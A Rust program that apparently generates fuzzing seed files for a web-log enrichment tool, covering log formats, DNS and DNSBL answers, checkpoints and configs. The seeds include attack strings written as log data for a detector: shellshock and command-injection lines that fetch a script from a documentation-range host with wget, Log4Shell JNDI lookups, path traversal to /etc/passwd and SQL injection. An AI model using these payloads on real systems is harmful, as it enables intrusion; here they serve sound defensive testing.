//! Writes the seed corpora, `fuzz/seeds/<target>/`: real-looking inputs of each target,
//! built here so that they can be made again (`cargo run --bin seeds`). Log lines come from
//! `samples/honeypot.log` and the policy's tests; DNS answers are encoded by
//! hickory-proto for the questions the `dns_answer` target asks.

use std::path::Path;

use hickory_proto::op::{Edns, Message, OpCode, Query, ResponseCode};
use hickory_proto::rr::rdata::{A, PTR, SOA, TXT};
use hickory_proto::rr::{Name, RData, Record};
use logenrich_fuzz::dns_answer::{IDS, question};

/// Lines of the policy's tests that exercise the parser's corners.
const TRICKY: &[&str] = &[
    r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1" 404 232 "-" "Python-urllib/3.8" "-" 443 198.51.100.77"#,
    r#"2001:db8:1:c84::2de - alice [18/Jul/2022:03:31:53 +0200] "GET /favicon.ico HTTP/1.1" 404 232 "-" "Mozilla/5.0 zgrab/0.x" "203.0.113.5, 198.51.100.2" 443 [2001:db8:60::face]"#,
    r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "\x16\x03\x01\x00" 400 157 "-" "-" "-" 443 -"#,
    r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /a\"b HTTP/1.1" 200 - "-" "say \"hi\"" "-" 80 h"#,
    r#"203.0.113.137 - - [19/Jul/2022:05:11:59 +0200] "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh HTTP/1.1" 400 157 "-" "Hakai/2.0" "-" 80"#,
    r#"10.0.0.2, 10.0.0.1, 85.181.35.98 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1 "-" "ua" "203.0.113.1""#,
    r#"unix: - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1"#,
    r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 1 "-" "ua" "-" 0.25 - upstream"#,
    r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "" 400 0 "-" "-" "-" 80 h  "#,
];

/// Lines that do not parse.
const BROKEN: &[&[u8]] = &[
    b"10.0.0.2, x - - [",
    b"nope - - [x",
    b"192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.1\" 2x0 232",
    b"192.0.2.1 - - [31/Feb/2022:25:61:61 +9999] \"GET /\xff\xfe HTTP/1.1\" 200 1",
    b"\"\"\"\"\\\\\\",
];

fn write(dir: &Path, name: &str, bytes: &[u8]) {
    std::fs::create_dir_all(dir).expect("seed folder");
    std::fs::write(dir.join(name), bytes).expect("seed file");
}

/// A mode byte followed by lines joined with `\n`.
/// Lines of the layouts auto mode reads after the access layouts refuse them.
const OTHER_SHAPES: &[&str] = &[
    r#"2023/09/08 13:50:28 [error] 7164#7164: *20 limiting requests, excess: 50.416 by zone "api", client: 198.51.100.7, server: example.org, request: "GET /x?a=${jndi:ldap://x} HTTP/2.0", upstream: "http://10.0.0.1/", host: "example.org", referrer: "http://r.test/""#,
    r#"[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 35708:tid 4328636416] core.c(4567): (13)Permission denied: [client 2001:db8::dead:e1f:57002] AH00126: Invalid URI in request GET /../etc/passwd HTTP/1.1, referer: http://r.test/"#,
    r#"[Wed Oct 11 14:32:52 2023] [error] [client 192.0.2.10] File does not exist: /var/www/favicon.ico"#,
    r#"<190>Jul  8 11:07:07 web-1 nginx[2869]: 198.51.100.7 - - [08/Jul/2023:11:07:07 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.0""#,
    r#"<190>1 2023-07-08T11:07:07Z web-1 nginx 2869 - [a k="x\]y"] www.example.org:443 198.51.100.7 - - [03/Okt/2023:13:55:36 +0200] "GET / HTTP/1.1" 200 512 "-" "-""#,
    r#""203.0.113.5, 10.0.0.2" 10.0.0.9 - - [14/juil./2023:10:00:00] "GET / HTTP/1.1" 200 1 "-" "-""#,
    r#"2001:db8::5, 198.51.100.2 192.0.2.10 - [1/Apr/2014:11:55:44 GMT] "GET / HTTP/1.1" 200 1"#,
];

fn lines<'a>(mode: u8, lines: impl IntoIterator<Item = &'a [u8]>) -> Vec<u8> {
    let mut out = vec![mode];
    for (i, l) in lines.into_iter().enumerate() {
        if i > 0 {
            out.push(b'\n');
        }
        out.extend_from_slice(l);
    }
    out
}

fn batch(root: &Path, sample: &[&str]) {
    let dir = root.join("batch");
    let tricky = || TRICKY.iter().map(|l| l.as_bytes());
    write(
        &dir,
        "sample-noanswers",
        &lines(0x00, sample[..8].iter().map(|l| l.as_bytes())),
    );
    write(
        &dir,
        "sample-attacks",
        &lines(
            0x02,
            sample
                .iter()
                .filter(|l| l.contains('%') || l.contains("${") || l.contains("\\x"))
                .take(8)
                .map(|l| l.as_bytes()),
        ),
    );
    write(&dir, "tricky-found", &lines(0x05, tricky()));
    write(&dir, "tricky-mixed-source", &lines(0x0b, tricky()));
    write(&dir, "honeypot", &lines(0x13, tricky().take(4)));
    write(
        &dir,
        "combined-wrongcount",
        &lines(0x21, sample[8..12].iter().map(|l| l.as_bytes())),
    );
    write(
        &dir,
        "common-extra",
        &lines(
            0x34,
            [
                &b"192.0.2.1 - bob [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.0\" 200 512"[..],
                TRICKY[6].as_bytes(),
            ],
        ),
    );
    write(&dir, "broken", &lines(0x03, BROKEN.iter().copied()));
    // Auto mode's other shapes: error logs, syslog headers, a virtual host, a forwarded
    // chain before the client, localised months.
    write(&dir, "other-shapes", &lines(0x05, OTHER_SHAPES.iter().map(|l| l.as_bytes())));
    write(&dir, "bad-ends", &lines(0x86, tricky().take(3)));
}

fn log_format(root: &Path) {
    let dir = root.join("log_format");
    let seed = |dialect: u8, format: &str, ls: &[&str]| {
        let mut out = vec![dialect];
        out.extend_from_slice(format.as_bytes());
        for l in ls {
            out.push(b'\n');
            out.extend_from_slice(l.as_bytes());
        }
        out
    };
    let combined = r#"$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent""#;
    write(
        &dir,
        "nginx-combined",
        &seed(
            0x04,
            combined,
            &[
                r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /?x=${jndi:ldap://a} HTTP/1.1" 404 232 "-" "Python-urllib/3.8""#,
                r#"2001:db8::2de - alice [18/Jul/2022:03:31:53 +0200] "GET /favicon.ico HTTP/1.1" 404 232 "http://a.example/" "Mozilla/5.0 zgrab/0.x""#,
                r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /a\"b HTTP/1.1" 200 - "-" "say \"hi\"""#,
            ],
        ),
    );
    write(
        &dir,
        "nginx-pasted-iso-lists",
        &seed(
            0x0a,
            "'$remote_addr [$time_iso8601] \"$request\" $status $request_time ' '$upstream_response_time $ssl_protocol \"$http_cookie\"'",
            &[
                r#"10.0.0.2, 10.0.0.1, 85.181.35.98 [2022-07-19T13:23:20+02:00] "GET / HTTP/2.0" 200 0.012 0.004, 0.008 : 0.001 TLSv1.3 "a=b""#,
                r#"unix: [2022-07-19T13:23:20Z] "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 400 0.000 - - "-""#,
            ],
        ),
    );
    write(
        &dir,
        "nginx-msec",
        &seed(
            0x00,
            "$msec $remote_addr $time_local $status ${host}:$server_port",
            &[
                "1658229800.123 unix: 19/Jul/2022:13:23:20 +0200 200 www.example.org:443",
                "1658229800 192.0.2.1 19/Jul/2022:13:23:20 +0200 404 [2001:db8::1]:80",
            ],
        ),
    );
    write(
        &dir,
        "apache-combined-timing",
        &seed(
            0x01,
            r#"%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-agent}i\" %D %{X-Request-Id}i"#,
            &[
                r#"host.example - bob [19/Jul/2022:13:23:20 +0200] "GET /q?x=\"1\" HTTP/1.1" 200 - "-" "curl \"x\"" 1500 abc-1"#,
                r#"198.51.100.9 - - [15/Jul/2022:04:44:54 +0200] "GET / HTTP/1.1" 200 3167 "-" "() { :; }; /bin/bash -c id" 12 -"#,
            ],
        ),
    );
    write(
        &dir,
        "apache-common-msec",
        &seed(
            0x07,
            r#"%a %l %u %{msec}t "%r" %>s %B %{X-Forwarded-For}i"#,
            &[r#"192.0.2.7 - - 1658229800123 "GET /.env HTTP/1.1" 404 0 203.0.113.1, 10.0.0.1"#],
        ),
    );
    write(
        &dir,
        "nginx-invalid",
        &seed(
            0x00,
            "$remote_addr $status$body_bytes_sent",
            &["192.0.2.1 200"],
        ),
    );
    write(&dir, "apache-invalid", &seed(0x01, "%h %{Referer", &["x"]));
}

fn attacks(root: &Path) {
    let dir = root.join("attacks");
    let texts: &[(&str, &[u8])] = &[
        ("jndi", b"\x00GET /?x=${jndi:dns://203.0.113.17/callback} HTTP/1.1"),
        ("jndi-nested", b"\x00${${lower:j}ndi:${lower:l}dap://a.example/x}"),
        ("traversal-encoded", b"\x00GET /..%2f..%2f..%2f..%2fetc/passwd HTTP/1.1"),
        ("triple-encoded", b"\x00/cgi-bin/%25252e%25252e/%25252e%25252e/bin/sh"),
        ("tls-on-http", b"\x00\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03"),
        ("shellshock", b"\x00() { :; }; echo; /bin/bash -c 'wget http://192.0.2.33/x.sh'"),
        ("custom-union", b"\x01(?:union\\s+select|sleep\\(\\d+\\))\nGET /item?id=1%20UNION%20%20SELECT%20password HTTP/1.1"),
        ("custom-unanchored", b"\x03.*wp-(?:admin|login)\\.php\nGET /blog/wp-login.php?redirect_to=%2f HTTP/1.1"),
        ("custom-class", b"\x01[a-z]{2,4}\\.(?:php|asp)x?\n/shell.aspx?cmd=whoami"),
    ];
    for (name, bytes) in texts {
        write(&dir, name, bytes);
    }
}

fn message(mode: u8, code: ResponseCode, fill: impl FnOnce(&mut Message, &Name)) -> Vec<u8> {
    let (name, rtype) = question(mode);
    let mut m = Message::response(IDS[1], OpCode::Query);
    m.metadata.recursion_desired = true;
    m.metadata.recursion_available = true;
    m.metadata.response_code = code;
    m.add_query(Query::query(name.clone(), rtype));
    let mut edns = Edns::new();
    edns.set_max_payload(1232);
    m.set_edns(edns);
    fill(&mut m, &name);
    let bytes = m.to_vec().expect("the seed encodes");
    let (query, _) = logenrich_dns::fuzzing::query(name, rtype).expect("a query");
    assert!(
        logenrich_dns::fuzzing::answer_to_any(&query, &IDS, &bytes).is_some(),
        "the seed answers its question"
    );
    let mut out = vec![mode];
    out.extend(bytes);
    out
}

fn dns(root: &Path) {
    let dir = root.join("dns_answer");
    let host = Name::from_ascii("crawl-66-249-66-1.googlebot.com.").expect("name");
    let soa = |apex: &str| {
        let apex = Name::from_ascii(apex).expect("name");
        let rname = Name::from_ascii("hostmaster.example.").expect("name");
        Record::from_rdata(
            apex.clone(),
            900,
            RData::SOA(SOA::new(apex, rname, 2022071901, 3600, 600, 86_400, 300)),
        )
    };
    write(
        &dir,
        "ptr-found",
        &message(0, ResponseCode::NoError, |m, name| {
            m.add_answer(Record::from_rdata(
                name.clone(),
                3600,
                RData::PTR(PTR(host.clone())),
            ));
        }),
    );
    write(
        &dir,
        "ptr-v6-nxdomain",
        &message(4, ResponseCode::NXDomain, |m, _| {
            m.authorities.push(soa("8.b.d.0.1.0.0.2.ip6.arpa."));
        }),
    );
    write(
        &dir,
        "dnsbl-listed",
        &message(1, ResponseCode::NoError, |m, name| {
            m.add_answer(Record::from_rdata(
                name.clone(),
                60,
                RData::A(A::new(127, 0, 0, 2)),
            ));
            m.add_answer(Record::from_rdata(
                name.clone(),
                30,
                RData::A(A::new(127, 0, 0, 4)),
            ));
        }),
    );
    write(
        &dir,
        "dnsbl-servfail",
        &message(9, ResponseCode::ServFail, |_, _| {}),
    );
    write(
        &dir,
        "dnsbl-nodata-soa",
        &message(1, ResponseCode::NoError, |m, _| {
            m.authorities.push(soa("zen.spamhaus.org."));
        }),
    );
    write(
        &dir,
        "dnsbl-reason",
        &message(2, ResponseCode::NoError, |m, name| {
            m.add_answer(Record::from_rdata(
                name.clone(),
                60,
                RData::TXT(TXT::new(vec![
                    "Listed by SBL, see ".into(),
                    "https://check.spamhaus.org/sbl/query/SBL2".into(),
                ])),
            ));
            m.add_answer(Record::from_rdata(
                name.clone(),
                60,
                RData::TXT(TXT::new(vec!["Listed by XBL".into()])),
            ));
        }),
    );
    write(
        &dir,
        "cymru-origin",
        &message(3, ResponseCode::NoError, |m, name| {
            m.add_answer(Record::from_rdata(
                name.clone(),
                14_400,
                RData::TXT(TXT::new(vec![
                    "15169 | 8.8.8.0/24 | US | arin | 1992-12-01".into(),
                ])),
            ));
            m.add_answer(Record::from_rdata(
                name.clone(),
                14_400,
                RData::TXT(TXT::new(vec![
                    "15169 | 8.0.0.0/12 | US | arin | 1992-12-01".into(),
                ])),
            ));
        }),
    );
    write(
        &dir,
        "cymru-origin6",
        &message(7, ResponseCode::NoError, |m, name| {
            m.add_answer(Record::from_rdata(
                name.clone(),
                14_400,
                RData::TXT(TXT::new(vec![
                    "23028 701 | 2001:db8::/32 | ZZ | ripencc | 2001-09-01".into(),
                ])),
            ));
        }),
    );
}

fn cymru(root: &Path) {
    let dir = root.join("cymru");
    write(&dir, "origins", b"\x05\"15169 | 8.8.8.0/24 | US | arin | 1992-12-01\"\n15169 | 8.0.0.0/12 | US | arin | 1992-12-01\n23028 701 | 216.90.108.0/24 | US | arin | 1998-09-25");
    write(&dir, "as-name", b"\x04\"15169 | US | arin | 2000-03-30 | GOOGLE - Google LLC, US\"\n15169 | 8.8.8.0/24 | US | arin | 1992-12-01");
    write(
        &dir,
        "failures",
        b"\x03AS64496 | 192.0.2.0/24 | ZZ | | \nnot an answer\n|||",
    );
    write(&dir, "wrong-count", b"\x01 15169 | 8.8.8.0/24");
}

fn checkpoint(root: &Path) {
    let dir = root.join("checkpoint");
    write(
        &dir,
        "two-inputs",
        br#"{
  "version": 1,
  "inputs": [
    {
      "path": "/var/log/nginx/access.log",
      "dev": 2049,
      "ino": 1835112,
      "fingerprint": {
        "len": 256,
        "crc32": 3735928559
      },
      "offset": 1048576,
      "line": 5120
    },
    {
      "path": "/var/log/nginx/access.log.1",
      "dev": 2049,
      "ino": 1835007,
      "offset": 0,
      "line": 0
    }
  ]
}"#,
    );
    write(&dir, "old-compact", br#"{"version":1,"inputs":[{"path":"/tmp/a.log","dev":64768,"ino":12,"offset":2,"line":1}]}"#);
    write(
        &dir,
        "with-output",
        br#"{"version":1,"inputs":[{"path":"/srv/log/a.log","dev":1,"ino":2,"fingerprint":{"len":3,"crc32":4},"offset":3,"line":1}],"output":{"path":"/srv/out/enriched.jsonl","bytes":4096}}"#,
    );
    write(&dir, "future-version", br#"{"version":9,"inputs":[]}"#);
    write(&dir, "not-a-checkpoint", b"GET / HTTP/1.1\n");
}

fn config(root: &Path) {
    let dir = root.join("config");
    write(
        &dir,
        "full",
        br#"format = "honeypot"
batch_size = 1000
batch_bytes = 4194304
instances = 2
linger_ms = 250
deadline = 2.5
max_line_bytes = 65536
max_memory_mib = 256
max_failed_batches = 3

[dns]
enabled = true
nameservers = ["127.0.0.1:5353", "::1", "[::1]:54"]
timeout = 0.5
attempts = 2
concurrency = 256
cache_size = 100000
min_ttl = 60
max_ttl = 86400
negative_ttl = 300
failure_ttl = 30

[geoip]
databases = ["/usr/share/GeoIP/GeoLite2-City.mmdb", "/tmp/asn.mmdb"]

[scanner]
extra_ua_keywords = ["masscan", "zgrab"]
dns_keywords = ["scan", "crawl"]

[[dnsbl]]
zone = "zen.spamhaus.org"

[[dnsbl]]
zone = "bl.example"
codes = { "127.0.0.2" = "spam", "127.0.0.4" = "exploited host" }

[attacks]
defaults = true
disable = ["tls-on-http"]

[[attacks.rule]]
id = "wp-login"
pattern = 'wp-login\.php'
fields = ["request", "referer"]
description = "WordPress login probes"
"#,
    );
    write(&dir, "formats", br#"log_format = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
apache_format = "%h %l %u %t \"%r\" %>s %b"
[dns]
timeout = -1.0
nameservers = ["dns.example", "192.0.2.1:99999"]
"#);
    write(&dir, "unknown-key", b"[dns]\ntimeot = 1\n");
    write(&dir, "bad-syntax", b"format = \"auto\n[[dnsbl]\nzone = ");
}

fn main() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let sample_text = std::fs::read_to_string(root.join("../samples/honeypot.log"))
        .expect("samples/honeypot.log");
    let sample: Vec<&str> = sample_text.lines().collect();
    let seeds = root.join("seeds");
    batch(&seeds, &sample);
    log_format(&seeds);
    attacks(&seeds);
    dns(&seeds);
    cymru(&seeds);
    checkpoint(&seeds);
    config(&seeds);
    println!("seeds written to {}", seeds.display());
}
